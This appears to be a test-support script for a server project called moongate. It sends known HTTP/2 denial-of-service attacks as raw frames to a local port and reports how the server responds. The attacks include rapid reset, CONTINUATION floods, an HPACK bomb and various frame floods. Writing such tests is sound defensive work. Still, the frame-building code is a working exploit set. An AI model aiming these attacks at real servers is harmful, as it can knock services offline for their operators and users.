#!/usr/bin/python3
"""The published HTTP/2 attacks, as raw frames, for the moongate specs
(Debian's python3-hyperframe and python3-hpack, which come with
python3-h2: run it with /usr/bin/python3).

    /usr/bin/python3 spec/support/h2_attack.py --port P --attack NAME [--count N]
        [--path PATH] [--seconds S]

connects to 127.0.0.1:P (h2c, prior knowledge), sends the preface and its
SETTINGS, acknowledges the server's, then:

  rapid-reset    N x (HEADERS for PATH + RST_STREAM CANCEL), CVE-2023-44487
  continuation   HEADERS without END_HEADERS, then N CONTINUATION frames of
                 100 bytes of fields each (CVE-2024-27316 and its kin)
  hpack-bomb     a 4000-byte field into the HPACK table, then one request
                 naming it N times (1 byte each on the wire), then a
                 plain request
  settings       N SETTINGS frames (one entry each)
  ping           N PINGs, their ACKs read
  ping-noread    N PINGs, nothing read until the end
  priority       N PRIORITY frames
  window-update  N WINDOW_UPDATE frames of 1 byte on the connection
  empty-data     a POST, then N empty DATA frames on it
  streams        N streams opened on PATH and left open
  big-headers    a request with N bytes of header fields (across
                 CONTINUATION frames), then a plain request
  many-headers   a request with N header fields, then a plain request
  zero-window    SETTINGS_INITIAL_WINDOW_SIZE 0, then a GET of PATH that
                 is never given a window
  slow-headers   HEADERS without END_HEADERS, then silence

It reads what the server sends until the server closes, a GOAWAY comes
and S seconds of quiet pass, or S seconds (default 10) are up, and prints
one JSON object: {"goaway": error code or null, "last_stream_id",
"debug" (the GOAWAY's text), "closed" (the server closed the connection),
"sent" (attack units written before the server stopped taking them),
"resets": {code: count} (RST_STREAMs received), "statuses": {status:
count}, "elapsed"}.
"""

import argparse
import json
import select
import socket
import struct
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
                              WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Client:
    def __init__(self, port, settings=None):
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_allowed_table_size = 65536
        self.buf = b""
        self.goaway = None
        self.last_stream_id = None
        self.debug = ""
        self.closed = False
        self.send_failed = False
        self.resets = {}
        self.statuses = {}
        self.sid = 1
        s = SettingsFrame(0)
        s.settings = settings or {}
        self.send(PREFACE + s.serialize())

    def send(self, data):
        """Writes all of data; False once the server no longer takes it."""
        if self.closed or self.send_failed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            # what the server sent before it closed (its GOAWAY) is still
            # to be read: read() says when the connection is over
            self.send_failed = True
            return False

    def headers(self, path="/", method="GET", extra=(), end_stream=True, end_headers=True,
                sid=None):
        sid = sid or self.next_sid()
        f = HeadersFrame(sid)
        f.data = self.enc.encode([(":method", method), (":path", path), (":scheme", "http"),
                                  (":authority", "localhost")] + list(extra))
        if end_stream:
            f.flags.add("END_STREAM")
        if end_headers:
            f.flags.add("END_HEADERS")
        return sid, f.serialize()

    def next_sid(self):
        sid = self.sid
        self.sid += 2
        return sid

    def read(self, timeout):
        """Reads and handles what came within timeout; False on EOF."""
        if self.closed and not self.buf:
            return False
        try:
            r, _, _ = select.select([self.sock], [], [], timeout)
            if not r:
                return True
            data = self.sock.recv(1 << 20)
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return False
        self.buf += data
        while len(self.buf) >= 9:
            length = struct.unpack(">I", b"\0" + self.buf[:3])[0]
            if len(self.buf) < 9 + length:
                break
            raw, self.buf = self.buf[:9 + length], self.buf[9 + length:]
            try:
                f, n = Frame.parse_frame_header(memoryview(raw[:9]))
                f.parse_body(memoryview(raw[9:]))
            except Exception:
                continue
            self.handle(f)
        return True

    def handle(self, f):
        if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
            ack = SettingsFrame(0)
            ack.flags.add("ACK")
            self.send(ack.serialize())
        elif isinstance(f, GoAwayFrame):
            self.goaway = f.error_code
            self.last_stream_id = f.last_stream_id
            self.debug = bytes(f.additional_data).decode("latin-1")
        elif isinstance(f, RstStreamFrame):
            self.resets[f.error_code] = self.resets.get(f.error_code, 0) + 1
        elif isinstance(f, HeadersFrame):
            try:
                for n, v in self.dec.decode(bytes(f.data)):
                    if n in (b":status", ":status"):
                        v = int(v)
                        self.statuses[v] = self.statuses.get(v, 0) + 1
            except Exception:
                pass
        elif isinstance(f, PingFrame) and "ACK" not in f.flags:
            pong = PingFrame(0)
            pong.flags.add("ACK")
            pong.opaque_data = f.opaque_data
            self.send(pong.serialize())


def frames(make, count, c, batch=64, read=True):
    """Sends count units made by make(i) (bytes) in batches; returns how
    many the server took before it stopped."""
    sent = 0
    while sent < count and not c.closed and not c.send_failed:
        chunk = b"".join(make(i) for i in range(sent, min(count, sent + batch)))
        if not c.send(chunk):
            break
        sent = min(count, sent + batch)
        if read:
            c.read(0)
            if c.goaway is not None:
                break
    return sent


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--attack", required=True)
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--path", default="/")
    ap.add_argument("--seconds", type=float, default=10)
    a = ap.parse_args()
    t0 = time.time()
    n = a.count
    settings = {}
    if a.attack == "zero-window":
        settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
    c = Client(a.port, settings)
    c.read(0.2)
    sent = 0

    if a.attack == "rapid-reset":
        def pair(i):
            sid, hdr = c.headers(a.path)
            rst = RstStreamFrame(sid)
            rst.error_code = 8
            return hdr + rst.serialize()
        sent = frames(pair, n, c)
    elif a.attack == "continuation":
        _, first = c.headers(a.path, end_headers=False)
        c.send(first)

        def cont(i):
            f = ContinuationFrame(c.sid - 2)
            f.data = c.enc.encode([("x-c%d" % (i % 50), "v" * 90)])
            return f.serialize()
        sent = frames(cont, n, c)
    elif a.attack == "hpack-bomb":
        # the table holds only the 4000-byte field (index 62: the newest);
        # the pseudo-headers never go in, so nothing moves it
        big = "b" * 4000
        pseudo = [hpack.NeverIndexedHeaderTuple(n, v) for n, v in
                  ((":method", "GET"), (":path", a.path), (":scheme", "http"),
                   (":authority", "localhost"))]
        f = HeadersFrame(c.next_sid())
        f.data = c.enc.encode(pseudo + [("x-big", big)])
        f.flags.add("END_STREAM")
        f.flags.add("END_HEADERS")
        c.send(f.serialize())
        c.read(0.5)
        # an indexed field: one byte (0x80 | 62) on the wire, 4000 decoded
        f = HeadersFrame(c.next_sid())
        f.data = c.enc.encode(pseudo) + bytes([0x80 | 62]) * n
        f.flags.add("END_STREAM")
        f.flags.add("END_HEADERS")
        c.send(f.serialize())
        sent = n
        c.read(1)
        c.send(c.headers(a.path)[1])
    elif a.attack == "settings":
        def one(i):
            s = SettingsFrame(0)
            s.settings = {SettingsFrame.MAX_CONCURRENT_STREAMS: 100 + i % 7}
            return s.serialize()
        sent = frames(one, n, c)
    elif a.attack in ("ping", "ping-noread"):
        def ping(i):
            p = PingFrame(0)
            p.opaque_data = struct.pack(">Q", i)
            return p.serialize()
        sent = frames(ping, n, c, read=a.attack == "ping")
    elif a.attack == "priority":
        def prio(i):
            p = PriorityFrame(1 + 2 * (i % 1000))
            p.depends_on = 0
            p.stream_weight = i % 256
            return p.serialize()
        sent = frames(prio, n, c)
    elif a.attack == "window-update":
        def wu(i):
            w = WindowUpdateFrame(0)
            w.window_increment = 1
            return w.serialize()
        sent = frames(wu, n, c)
    elif a.attack == "empty-data":
        sid, hdr = c.headers(a.path, method="POST", end_stream=False)
        c.send(hdr)

        def empty(i):
            return DataFrame(sid).serialize()
        sent = frames(empty, n, c)
    elif a.attack == "streams":
        def stream(i):
            return c.headers(a.path)[1]
        sent = frames(stream, n, c, batch=16)
    elif a.attack == "big-headers":
        extra = [("x-h%d" % i, "v" * 1000) for i in range(n // 1010 + 1)]
        block = c.enc.encode([(":method", "GET"), (":path", a.path), (":scheme", "http"),
                              (":authority", "localhost")] + extra)
        sid = c.next_sid()
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        out = b""
        for i, p in enumerate(pieces):
            f = HeadersFrame(sid) if i == 0 else ContinuationFrame(sid)
            f.data = p
            if i == 0:
                f.flags.add("END_STREAM")
            if i == len(pieces) - 1:
                f.flags.add("END_HEADERS")
            out += f.serialize()
        c.send(out)
        sent = len(block)
        c.read(1)
        c.send(c.headers(a.path)[1])
    elif a.attack == "many-headers":
        c.send(c.headers(a.path, extra=[("x-m%d" % i, "1") for i in range(n)])[1])
        sent = n
        c.read(1)
        c.send(c.headers(a.path)[1])
    elif a.attack == "zero-window":
        c.send(c.headers(a.path)[1])
        sent = 1
    elif a.attack == "slow-headers":
        c.send(c.headers(a.path, end_headers=False)[1])
        sent = 1
    else:
        print(json.dumps({"error": "unknown attack " + a.attack}))
        return 2

    deadline = time.time() + a.seconds
    quiet_since = None
    while time.time() < deadline:
        if not c.read(0.1):
            break
        if c.goaway is not None:
            quiet_since = quiet_since or time.time()
            if time.time() - quiet_since > 1:
                break
    print(json.dumps({"goaway": c.goaway, "last_stream_id": c.last_stream_id, "debug": c.debug,
                      "closed": c.closed, "sent": sent,
                      "resets": {str(k): v for k, v in c.resets.items()},
                      "statuses": {str(k): v for k, v in c.statuses.items()},
                      "elapsed": round(time.time() - t0, 3)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
